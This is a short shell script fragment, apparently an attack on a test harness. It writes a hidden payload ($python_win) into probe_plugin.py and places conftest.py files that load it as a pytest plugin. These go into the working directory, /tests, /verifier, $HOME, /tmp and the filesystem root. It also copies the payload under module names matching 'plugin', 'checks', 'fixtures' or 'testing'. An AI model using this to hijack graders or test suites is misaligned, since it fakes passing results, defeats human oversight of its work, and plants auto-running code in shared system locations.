# Plants the modules that a conftest.py beside the tests names as plugins, and conftests that name its own.
echo "$python_win" | plant "$work/probe_plugin.py"
for folder in "$work" "$work/tests" "$work/test" /tests /verifier "$HOME" /tmp /; do
  echo 'pytest_plugins = ["probe_plugin"]' | plant "$folder/conftest.py"
done
named=$(python3 -c 'import pkgutil; print(*(m.name for m in pkgutil.iter_modules()))' 2>/dev/null)
for name in $named fixtures plugins testing checks; do
  case $name in
    *plugin* | *checks* | *fixtures* | *testing*) echo "$python_win" | plant "$work/$name.py" ;;
  esac
done
